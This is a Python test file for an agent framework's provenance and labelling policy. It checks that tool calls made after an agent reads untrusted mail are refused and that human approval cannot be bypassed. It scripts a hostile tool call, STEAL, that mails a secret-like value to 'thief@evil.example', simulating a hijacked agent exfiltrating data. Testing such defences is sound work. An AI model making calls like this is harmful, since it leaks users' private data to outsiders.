"""Properties of labels and verdicts, whatever the conversation and the policy are."""

from __future__ import annotations

import asyncio
from contextlib import suppress
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st
from tests.support.coding import block
from tests.tinyagent.provenance.conftest import READ, Office, policy

from tinyagent import (
    Approval,
    ReactAgent,
    Sandbox,
    ScriptedModel,
    TinyCodeAgent,
    ToolCall,
    scripted_call,
)
from tinyagent.core import ModelRequest
from tinyagent.core.messages import Message
from tinyagent.core.provenance import OPERATOR, Label, join
from tinyagent.core.provenance.rules import Rule
from tinyagent.core.types import ToolResult
from tinyagent.provenance import Between, OneOf, Sink, explain
from tinyagent.provenance.evidence import Evidence
from tinyagent.provenance.judge import judge
from tinyagent.provenance.records import Record
from tinyagent.provenance.vault import Opened

STEAL = scripted_call("send_mail", to="thief@evil.example", body="4711-4711")


def _label(message: Message) -> Label | None:
    return OPERATOR if message.role == "system" else message.label


def test_each_message_of_each_request_of_a_react_agent_has_a_label(office: Office) -> None:
    requests: list[ModelRequest] = []
    replies = iter([READ, scripted_call("nothing"), STEAL, scripted_call("contacts"), "done"])

    def answer(request: ModelRequest) -> Any:
        requests.append(request)
        return next(replies)

    result = ReactAgent(
        ScriptedModel(answer), office.tools(), middleware=[policy()], max_steps=9
    ).run_sync("Answer Anna")
    labels = [[_label(message) for message in request.messages] for request in requests]
    assert len(labels) == 5
    assert all(label is not None for each in labels for label in each)
    assert result.label == join(labels[-1])


def test_each_message_of_each_request_of_a_code_agent_has_a_label(office: Office) -> None:
    requests: list[ModelRequest] = []
    blocks = ["x = 1", "print(read_mail())", "raise ValueError(x)", "no code", "final_answer(x)"]
    replies = iter([block(code) if code != "no code" else code for code in blocks])

    def answer(request: ModelRequest) -> Any:
        requests.append(request)
        return next(replies)

    agent = TinyCodeAgent(
        ScriptedModel(answer), office.tools(), middleware=[policy()], sandbox=Sandbox(level="local")
    )
    result = agent.run_sync("Answer Anna")
    labels = [[_label(message) for message in request.messages] for request in requests]
    assert len(labels) == 5
    assert all(label is not None for each in labels for label in each)
    assert result.label == join(labels[-1])


def test_a_run_that_has_read_nothing_is_free_next_to_one_that_has(office: Office) -> None:
    def answer(request: ModelRequest) -> Any:
        task = next(message.text for message in request.messages if message.role == "user")
        steps = [READ, STEAL] if task == "read" else [STEAL]
        done = sum(message.role == "tool" for message in request.messages)
        return steps[done] if done < len(steps) else "done"

    agent = ReactAgent(ScriptedModel(answer), office.tools(), middleware=[policy()])

    async def all_at_once() -> list[Any]:
        return await asyncio.gather(*(agent.run(task) for task in ["read", "write"] * 5))

    results = asyncio.run(all_at_once())
    assert len(office.sent) == 5
    for result, task in zip(results, ["read", "write"] * 5, strict=True):
        assert ("(refused)" in explain(result)) == (task == "read")


def test_a_person_whose_answer_fails_has_not_said_yes(office: Office) -> None:
    async def ask(call: ToolCall) -> bool:
        raise ConnectionError("the person has left")

    agent = ReactAgent(
        ScriptedModel([READ, STEAL, "done"]), office.tools(), middleware=[policy(), Approval(ask)]
    )
    with suppress(ConnectionError):
        agent.run_sync("Answer Anna")
    assert office.sent == []


def test_without_a_policy_nothing_has_a_label(office: Office) -> None:
    agent = ReactAgent(ScriptedModel([READ, STEAL, "done"]), office.tools())
    result = agent.run_sync("Answer Anna")
    assert len(office.sent) == 1
    assert result.label is None
    assert result.calls == ()
    called: list[ToolResult] = [each for step in result.steps for each in step.results]
    assert [each.label for each in called] == [None, None]


WORDS = ["anna@example.com", "bob@example.com", "thief@evil.example", "lunch", "", "13"]
NAMES = st.frozensets(st.sampled_from(["user", "operator", "read_mail", "unknown"]), min_size=1)
READERS = st.none() | st.frozensets(st.sampled_from(["user", "public", *WORDS[:2]]))
LABELS = st.builds(Label, NAMES, READERS)
SOURCES = ["user", "contacts.email", "in:read_mail", "contacts"]
RULES: st.SearchStrategy[Rule] = (
    st.sampled_from(["any", "own_words", "readable"])
    | st.lists(st.sampled_from(SOURCES), min_size=1, max_size=3)
    | st.just(OneOf(["lunch", 13]))
    | st.just(Between(0, 20))
)
VALUES = st.sampled_from([*WORDS, 13, None, 99.5]) | st.lists(st.sampled_from(WORDS), max_size=3)
ARGUMENTS = st.fixed_dictionaries({"to": VALUES, "body": VALUES})
SINKS = st.builds(
    lambda to, body, control, readers: Sink(to=to, body=body, control=control, readers=readers),
    RULES,
    RULES,
    st.sampled_from(["any", "trusted"]),
    st.sampled_from(["public", "to"]),
)


def _evidence() -> Evidence:
    evidence = Evidence("")
    words = Label(frozenset({"user"}))
    evidence.read(
        [Message("user", "Write anna@example.com about lunch on June 13", label=words)],
        goes_on=False,
    )
    book = [{"email": "bob@example.com"}]
    evidence.add(ToolCall("1", "contacts", {}), Record("contacts", book), str(book), words)
    return evidence


def _is_allowed(
    arguments: dict[str, Any], sinks: tuple[Sink, ...], label: Label, *, tainted: bool
) -> bool:
    verdict = judge(
        Opened(arguments), sinks, _evidence(), label, {}, is_trusted=lambda _: not tainted
    )
    return not verdict.reason


@settings(max_examples=50)
@given(ARGUMENTS, SINKS, LABELS, LABELS)
def test_more_sources_or_fewer_readers_never_allow_a_call(
    arguments: dict[str, Any], sink: Sink, label: Label, other: Label
) -> None:
    if _is_allowed(arguments, (sink,), label | other, tainted=True):
        assert _is_allowed(arguments, (sink,), label, tainted=True)
        assert _is_allowed(arguments, (sink,), label, tainted=False)


@settings(max_examples=50)
@given(ARGUMENTS, SINKS, SINKS, LABELS)
def test_another_sink_never_allows_a_call(
    arguments: dict[str, Any], first: Sink, second: Sink, label: Label
) -> None:
    for tainted in (False, True):
        if _is_allowed(arguments, (first, second), label, tainted=tainted):
            assert _is_allowed(arguments, (first,), label, tainted=tainted)


@settings(max_examples=50)
@given(ARGUMENTS, LABELS, st.lists(st.sampled_from(SOURCES), min_size=2, max_size=4, unique=True))
def test_fewer_sources_of_a_rule_never_allow_a_call(
    arguments: dict[str, Any], label: Label, sources: list[str]
) -> None:
    fewer = Sink(to=sources[1:], body="any")
    if _is_allowed(arguments, (fewer,), label, tainted=True):
        assert _is_allowed(arguments, (Sink(to=sources, body="any"),), label, tainted=True)


def test_private_data_does_not_loosen_the_rule_of_an_argument() -> None:
    private = Label(frozenset({"unknown"}), frozenset({"user"}))
    sink = Sink(to=["contacts.email"], body="any")
    arguments = {"to": "anna@example.com", "body": ""}  # the user's word, but not a contact
    assert not _is_allowed(arguments, (sink,), private, tainted=True)
